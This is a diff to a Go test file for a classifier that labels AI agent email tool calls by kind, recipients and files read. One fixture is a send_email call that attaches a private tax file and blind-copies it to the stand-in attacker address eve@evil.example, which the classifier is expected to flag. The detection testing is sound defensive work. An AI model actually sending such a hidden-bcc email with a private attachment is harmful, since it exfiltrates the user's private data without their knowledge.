@@ -33,8 +33,8 @@ func TestClassifyCatalog(t *testing.T) {
 
 		// E-mail.
 		{"send_email", "mcp__gmail__send_email", `{"to": ["bob@x.org"], "cc": "carol@x.org", "bcc": "Eve <eve@evil.example>", "subject": "Q3", "body": "attached", "attachments": ["~/private/tax.pdf"]}`,
-			expect{kind: Send, external: yes(), family: "email", recipients: []string{"bob@x.org:to", "carol@x.org:cc", "eve@evil.example:bcc"}, paths: []string{"/home/u/private/tax.pdf:read"}, notes: []string{"attachment /home/u/private/tax.pdf is read and sent", "recipient eve@evil.example from field bcc"}}},
-		{"send_email recipient objects", "send_email", `{"to": [{"email": "bob@x.org", "name": "Bob"}], "subject": "s", "body": "b"}`, expect{kind: Send, recipients: []string{"bob@x.org:to"}}},
+			expect{kind: Send, external: yes(), family: "email", recipients: []string{"bob@x.org:to", "carol@x.org:cc", "eve@evil.example:bcc:Eve"}, paths: []string{"/home/u/private/tax.pdf:read"}, notes: []string{"attachment /home/u/private/tax.pdf is read and sent", "recipient eve@evil.example from field bcc"}}},
+		{"send_email recipient objects", "send_email", `{"to": [{"email": "bob@x.org", "name": "Bob"}], "subject": "s", "body": "b"}`, expect{kind: Send, recipients: []string{"bob@x.org:to:Bob"}}},
 		{"reply_all", "reply_all", `{"message_id": "m1", "body": "ok"}`, expect{kind: Send}},
 		{"forward", "forward_email", `{"message_id": "m1", "to": "x@y.org"}`, expect{kind: Send, recipients: []string{"x@y.org:to"}}},
 		{"draft is a write", "create_draft", `{"to": "bob@x.org", "subject": "s", "body": "b"}`, expect{kind: Write, notKinds: []Kind{Send}, external: no()}},
@@ -255,7 +255,7 @@ func TestNamingStyles(t *testing.T) {
 		if a.Kind != Send || !a.Known || a.Family != "email" {
 			t.Errorf("%s: kind=%s known=%v family=%q, want send, known, email", name, a.Kind, a.Known, a.Family)
 		}
-		if len(a.Recipients) != 1 || a.Recipients[0] != (Recipient{"bob@x.org", "to"}) {
+		if len(a.Recipients) != 1 || a.Recipients[0] != (Recipient{Address: "bob@x.org", Field: "to"}) {
 			t.Errorf("%s: recipients %+v", name, a.Recipients)
 		}
 	}
